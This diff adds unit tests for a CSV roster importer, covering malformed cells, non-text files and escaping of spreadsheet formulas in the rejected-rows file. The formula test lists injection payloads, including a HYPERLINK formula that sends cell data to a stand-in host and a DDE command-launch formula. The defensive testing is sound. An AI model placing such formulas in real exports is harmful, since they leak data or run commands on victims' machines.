@@ -2,6 +2,7 @@
 rejected file, exit codes, and an import killed midway."""
 import csv
 import datetime as dt
+import io
 import os
 import random
 import re
@@ -181,6 +182,98 @@ class ImportPersonsTestCase(unittest.TestCase):
         self.assertEqual(again.returncode, 0, again.stderr)
         self.assertEqual(summary(again), (2500, 0, 0, 0))
         self.assertEqual(self.persons(), before + 2500)
+
+    def column(self, field):
+        return demo_county.roster_format()['columns'][field][0]
+
+    def test_one_bad_cell_rejects_its_row_only(self):
+        """A cell over the csv module's limit, a NUL, bytes that are no text,
+        dates at the ends of the calendar, an identity number of 10,000
+        characters: each its row rejected with a reason naming the column
+        (and the limit), the good rows around them stored, exit code 3"""
+        path = self.roster(10)
+        with open(path, encoding='utf-8-sig') as file:
+            rows = list(csv.reader(file))
+        header = rows[0]
+        at = {f: header.index(self.column(f))
+            for f in ['name', 'address', 'start_date', 'id_number']}
+        garbage = 'GARBAGE-BYTES'
+        cases = [  # line, field, value, words of the reason
+            (3, 'name', 'x' * 140000, [self.column('name'), '100']),
+            (4, 'address', '\u71d5\x00\u5e97', [self.column('address'),
+                    'NUL']),
+            (5, 'start_date', '0001-01-01', [self.column('start_date'),
+                    '1900', '2100']),
+            (6, 'start_date', '9999-12-31', [self.column('start_date'),
+                    '2100']),
+            (7, 'name', garbage, [self.column('name'), 'NUL']),
+            (8, 'id_number', '3' * 10000, [self.column('id_number'),
+                    '200']),
+            ]
+        for line, field, value, _ in cases:
+            rows[line - 1][at[field]] = value
+        text = io.StringIO(newline='')
+        csv.writer(text).writerows(rows)
+        with open(path, 'wb') as file:
+            file.write(text.getvalue().encode('utf-8').replace(
+                    garbage.encode(), b'\xff\xfe\x80\x81'))
+        before = self.persons()
+
+        process = self.db.care('import', 'persons', path)
+        self.assertEqual(process.returncode, 3, process.stderr)
+        self.assertNotIn('Traceback', process.stderr)
+        self.assertEqual(summary(process), (4, 0, 0, len(cases)))
+        self.assertEqual(self.persons(), before + 4)
+        # The rejected file holds the long cell as it came
+        limit = csv.field_size_limit(1 << 20)
+        self.addCleanup(csv.field_size_limit, limit)
+        with open(os.path.join(self.tmp, 'persons.rejected.csv'),
+                encoding='utf-8-sig', newline='') as file:
+            rejected = list(csv.reader(file))
+        self.assertEqual([r[-2] for r in rejected[1:]],
+            [str(line) for line, *_ in cases])
+        for row, (line, field, value, words) in zip(rejected[1:], cases):
+            for word in words:
+                self.assertIn(word, row[-1])
+        # Bytes that were no text come back replaced
+        self.assertEqual(rejected[5][at['name']], '\ufffd' * 4)
+
+    def test_not_text_is_unusable(self):
+        "A file that is no text in any accepted encoding: exit code 2"
+        path = os.path.join(self.tmp, 'persons.csv')
+        with open(path, 'wb') as file:
+            file.write(b'\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00'
+                b'\x01\x00\xff\xd8\xff\xe0' * 20)
+        before = self.persons()
+        process = self.db.care('import', 'persons', path)
+        self.assertEqual(process.returncode, 2, process.stderr)
+        self.assertIn('GB18030', process.stderr)
+        self.assertRegex(process.stderr, '[\u4e00-\u9fff]{4}')
+        self.assertNotIn('Traceback', process.stderr)
+        self.assertEqual(self.persons(), before)
+
+    def test_formulas_escaped_in_rejected_file(self):
+        "Cells written as formulas come back as text in the rejected file"
+        path = self.roster(6)
+        with open(path, encoding='utf-8-sig') as file:
+            rows = list(csv.reader(file))
+        header = rows[0]
+        name = header.index(self.column('name'))
+        start = header.index(self.column('start_date'))
+        formulas = ['=HYPERLINK("http://x.example/?"&A1,"click")',
+            "=cmd|' /C calc'!A0", '+SUM(1+1)', '@SUM(1+1)', '-1+2']
+        for row, formula in zip(rows[1:], formulas):
+            row[name] = formula
+            row[start] = '2023-02-30'
+        with open(path, 'w', encoding='utf-8-sig', newline='') as file:
+            csv.writer(file).writerows(rows)
+        process = self.db.care('import', 'persons', path)
+        self.assertEqual(process.returncode, 3, process.stderr)
+        with open(os.path.join(self.tmp, 'persons.rejected.csv'),
+                encoding='utf-8-sig', newline='') as file:
+            rejected = list(csv.reader(file))
+        self.assertEqual([r[name] for r in rejected[1:]],
+            ["'" + f for f in formulas])
 
 
 if __name__ == '__main__':
